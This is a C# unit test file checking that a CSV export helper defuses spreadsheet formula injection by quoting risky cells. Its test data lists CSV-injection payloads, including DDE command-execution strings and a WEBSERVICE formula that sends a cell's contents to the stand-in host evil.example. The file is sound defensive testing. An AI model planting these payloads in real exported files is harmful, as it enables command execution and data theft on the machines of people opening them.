using System.Text;
using CaseManagement.Web.Features.Shared;

namespace CaseManagement.Web.Tests.Pages;

public sealed class CsvTextTests
{
    private static readonly string[] Formulas =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example/?\"&A1)", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\",\"/c calc\")",
        "=2+5+cmd|' /C calc'!A0", "=A1", "=\"x\"", "=\n1", "+1+1", "+cmd|' /C calc'!A0", "+86 138", "-1+1", "-2+3+cmd|' /C calc'!A0", "-SUM(1)", "@SUM(1+1)", "@A1", "@=1", "\t=1+1", "\t1", "\r=1+1", "\r\n=1+1", "\n=1+1",
        "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "=1,2", "=\"\"\",\"\n\"",
    ];

    [Fact]
    public void Thirty_formulas_go_out_as_text_and_come_back_whole()
    {
        Assert.Equal(30, Formulas.Length);
        var lines = string.Concat(Formulas.Select(f => CsvText.Line("a", f, "b")));

        var read = Read(lines);

        Assert.Equal(Formulas.Select(f => "'" + f), read.Select(r => r[1]));
        Assert.All(read, r => Assert.Equal(("a", "b"), (r[0], r[2])));
    }

    [Theory]
    [InlineData("plain")]
    [InlineData("")]
    [InlineData("a=b")]
    [InlineData("1-2")]
    [InlineData("a,\"b\"\r\nc")]
    public void What_is_no_formula_is_as_it_was(string text) => Assert.Equal(text, Assert.Single(Read(CsvText.Line("x", text)))[1]);

    /// <summary>RFC 4180, as spreadsheets read it.</summary>
    private static List<List<string>> Read(string csv)
    {
        var (rows, row, field, quoted) = (new List<List<string>>(), new List<string>(), new StringBuilder(), false);
        for (var at = 0; at < csv.Length; at++)
        {
            var c = csv[at];
            if (quoted)
            {
                if (c == '"' && at + 1 < csv.Length && csv[at + 1] == '"')
                {
                    field.Append('"');
                    at++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                if (c == '\n')
                {
                    rows.Add(row);
                    row = [];
                }
            }
            else if (c != '\r')
            {
                field.Append(c);
            }
        }

        return rows;
    }
}
